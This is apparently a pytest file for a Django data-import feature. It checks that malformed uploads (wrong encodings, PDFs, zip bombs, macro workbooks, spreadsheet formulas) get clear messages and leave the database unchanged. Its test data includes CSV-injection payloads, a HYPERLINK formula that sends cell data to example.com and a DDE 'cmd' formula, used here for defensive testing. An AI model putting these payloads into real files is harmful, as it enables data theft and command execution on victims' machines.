"""The corpus of malformed uploads in ``bad_files/``: each file gets a specific message in plain
words (with row and column where there is one, and how to fix it) and leaves the database as it
was; the few files in shapes people really have (a BOM and semicolons, mixed line ends…) are
imported, with a warning where something was guessed.

The files are made by ``bad_files/make_corpus.py``; ``bad_files/README.md`` lists them.
"""

from __future__ import annotations

import io
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from backbone.measurement.imports import import_observations
from backbone.measurement.models import Observation, ObservationChange

pytestmark = pytest.mark.django_db

FOLDER = Path(__file__).parent / "bad_files"


@pytest.fixture
def world(import_world):
    return import_world


@dataclass(frozen=True)
class Case:
    """What a file of the corpus gets. ``problems``: (row, column, words of the message), errors
    for a refused file, warnings for an accepted one. ``created``: the file is accepted and saves
    this many values."""

    name: str
    problems: tuple[tuple[int | None, str, str], ...] = ()
    created: int | None = None
    settings: dict[str, object] = field(default_factory=dict)


def refused(name: str, *problems: tuple[int | None, str, str], **settings: object) -> Case:
    return Case(name, problems, settings=settings)


def accepted(name: str, created: int, *warnings: tuple[int | None, str, str]) -> Case:
    return Case(name, warnings, created=created)


FILE = None  # no row: the problem is with the file as a whole
CORPUS = [
    # Encodings, separators, line ends.
    refused("empty.csv", (FILE, "", "The file is empty")),
    refused("whitespace-only.csv", (FILE, "", "only spaces and blank lines")),
    refused("headings-only.csv", (FILE, "", "column headings but no rows of figures")),
    accepted("utf16-without-bom.csv", 2, (FILE, "", "“Unicode text” (UTF-16)")),
    refused("mac-roman-accents.csv", (3, "", "Row 3 contains characters we cannot recognise")),
    accepted("latin1-accents.csv", 2, (FILE, "", "read as Windows-1252")),
    accepted("utf8-bom-semicolons.csv", 3),
    refused("pipe-separated.csv", (1, "", "separated by “|”. We read columns separated by commas")),
    accepted("mixed-line-endings.csv", 4),
    # Not a table at all.
    refused("binary-garbage.csv", (FILE, "", "not plain text")),
    refused("chart-picture.csv", (FILE, "", "This is a picture")),
    refused("report.pdf", (FILE, "", "This is a PDF")),
    refused("web-page.csv", (FILE, "", "This is a web page")),
    refused("figures.csv.gz", (FILE, "", "This file is compressed")),
    # Damaged text.
    refused("nul-byte.csv", (3, "", "invisible “null” character")),
    refused("unterminated-quote.csv", (3, "", "opens a cell that is never closed")),
    refused("text-after-quote.csv", (2, "", "more text after its closing quote mark")),
    refused("giant-cell.csv", (2, "", "runs on for more than 131,072 characters")),
    # Headings.
    refused(
        "missing-columns.csv",
        (1, "place", "The required column “place” is missing"),
        (1, "period", "The required column “period” is missing"),
    ),
    refused("duplicate-headings.csv", (1, "value", "The column “value” appears twice")),
    refused(
        "title-above-headings.csv", (3, "", "headings are in row 3, but they must be in row 1")
    ),
    refused("extra-cells.csv", (3, "", "Column E of this row holds “234”, but that column has no")),
    # Cells.
    refused("huge-cell.csv", (2, "place", "100,000 characters, far too many for the place")),
    refused("long-note.csv", (2, "note", "The note has 659 characters; the most is 500")),
    accepted(
        "formula-in-note.csv",
        3,
        (2, "note", "starts with “=”, so a spreadsheet could mistake it for a formula"),
        (3, "note", "starts with “+”"),
        (4, "note", "starts with “@”"),
    ),
    refused(
        "formula-in-code.csv",
        (2, "place", "looks like a spreadsheet formula, not a code"),
        (3, "indicator", "“@SUM(1+1)” looks like a spreadsheet formula"),
        (4, "organization", "“+cmd|' /C calc'!A0” looks like a spreadsheet formula"),
    ),
    refused(
        "excel-error-values.csv",
        (2, "value", "The spreadsheet shows an error here (#DIV/0!)"),
        (3, "numerator", "The spreadsheet shows an error here (#N/A)"),
    ),
    accepted("numbers-as-people-write-them.csv", 3),
    refused(
        "decimal-comma.csv",
        (2, "value", "“12,5” is not a number we can read: it seems to use a comma for decimals"),
        (3, "value", "“1.234,0” is not a number we can read"),
    ),
    refused(
        "percent-sign-on-a-count.csv",
        (2, "value", "“12%” has a percent sign, but homeless is not a percent (it is a count)"),
    ),
    refused("date-in-value.csv", (2, "value", "“2023-01-05” is a date, not a number")),
    refused(
        "too-large-number.csv",
        (2, "value", "100000000000000 is too large to store"),
        (3, "value", "100000000000000000000 is too large to store"),
    ),
    # Codes and keys.
    refused(
        "unknown-codes.csv",
        (2, "indicator", "“homelessness” is not an indicator of this initiative"),
        (3, "place", "“Z9” is not a place of this initiative"),
        (4, "shelter", "“outside” is not a group of shelter"),
        (5, "organization", "“Nobody Inc” is not a partner of this initiative"),
    ),
    refused("duplicate-rows.csv", (3, "", "already given in an earlier row")),
    refused("over-the-limit.csv", (FILE, "", "The file is too large"), IMPORT_MAX_BYTES=1000),
    # Office files and archives.
    refused("old-excel.xls", (FILE, "", "This is an Excel 97–2003 workbook (.xls)")),
    refused("password-protected.xlsx", (FILE, "", "protected with a password")),
    refused("zip-of-csvs.xlsx", (FILE, "", "This is a zip file (several files packed together)")),
    refused("zip-bomb.xlsx", (FILE, "", "packed in a suspicious way")),
    refused("macros.xlsm", (FILE, "", "contains macros")),
    refused(
        "external-links.xlsx",
        (FILE, "", "takes some of its figures from another file (“Counts 2023.xlsx”)"),
    ),
    refused("formula-without-result.xlsx", (2, "value", "formula without a saved result")),
    refused("date-in-value.xlsx", (2, "value", "“2023-01-05” is a date, not a number")),
    refused("empty-sheet.xlsx", (FILE, "", "The sheet “Figures” is empty")),
    refused("headings-in-row-3.xlsx", (3, "", "headings are in row 3")),
    refused("damaged.xlsx", (FILE, "", "The workbook is damaged or incomplete")),
    refused("opendocument.ods", (FILE, "", "OpenDocument spreadsheet (.ods)")),
    refused("word-document.docx", (FILE, "", "This is a text document (such as Word)")),
]


def upload(world, name: str, *, dry_run: bool) -> object:
    return import_observations(
        actor=world["admin"],
        initiative=world["init"],
        file=io.BytesIO((FOLDER / name).read_bytes()),
        filename=name,
        dry_run=dry_run,
    )


def stored() -> tuple[list[tuple[object, ...]], int]:
    rows = Observation.objects.order_by("pk").values_list("pk", "value", "note", "version")
    return list(rows), ObservationChange.objects.count()


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_each_file_of_the_corpus_gets_a_specific_message_and_changes_nothing(world, settings, case):
    for name, value in case.settings.items():
        setattr(settings, name, value)
    seed = b"indicator,place,period,value,note\nhomeless,R,2020,7,already stored\n"
    import_observations(  # something already stored, that no file may change
        actor=world["admin"],
        initiative=world["init"],
        file=io.BytesIO(seed),
        filename="seed.csv",
        dry_run=False,
    )
    before = stored()
    report = upload(world, case.name, dry_run=case.created is not None)
    shown = [(p.row, p.column, p.message) for p in report.problems]
    expect_errors = case.created is None
    assert report.ok is not expect_errors, shown
    for row, column, words in case.problems:
        found = [p for p in report.problems if words in p.message and p.is_error is expect_errors]
        assert found, (words, shown)
        assert (found[0].row, found[0].column) == (row, column), shown
    assert all(p.fix for p in report.problems), shown
    assert all("Error" not in p.message and "codec" not in p.message for p in report.problems)
    if expect_errors:
        assert report.created == report.updated == 0
    else:  # checked in a dry run; the warnings are the ones expected, and nothing else
        assert report.warnings == len(case.problems), shown
        assert report.created == case.created
    assert stored() == before


@pytest.mark.parametrize("case", [c for c in CORPUS if c.created is not None], ids=lambda c: c.name)
def test_the_files_people_really_have_are_saved(world, case):
    report = upload(world, case.name, dry_run=False)
    assert report.saved, report.problems
    assert Observation.objects.count() == case.created


def test_notes_that_look_like_formulas_are_kept_as_plain_text(world):
    upload(world, "formula-in-note.csv", dry_run=False)
    notes = dict(Observation.objects.values_list("place__code", "note"))
    assert notes == {
        "A": '=HYPERLINK("http://example.com/steal?d="&A2,"Click for details")',
        "B": "+cmd|' /C calc'!A0",
        "R": "@SUM(1+1)*cmd|' /C calc'!A0",
    }


class CountingFile(io.BytesIO):
    """A file that counts how many of its bytes were read."""

    read_bytes = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.read_bytes += len(data)
        return data


def test_a_zip_bomb_is_refused_from_its_table_of_contents_without_unpacking_it(world):
    data = (FOLDER / "zip-bomb.xlsx").read_bytes()
    assert len(data) < 100_000
    file = CountingFile(data)
    report = import_observations(
        actor=world["admin"], initiative=world["init"], file=file, filename="zip-bomb.xlsx"
    )
    assert "would grow from 58.3\xa0KB to 57.2\xa0MB" in report.problems[0].message
    assert file.read_bytes < len(data) // 10  # the packed sheet itself was never read


def test_the_corpus_readme_and_the_files_agree():
    files = {p.name for p in FOLDER.iterdir() if p.is_file() and p.suffix not in (".md", ".py")}
    assert files == {c.name for c in CORPUS}
    assert len(files) >= 30
    readme = (FOLDER / "README.md").read_text()
    assert [name for name in sorted(files) if f"`{name}`" not in readme] == []
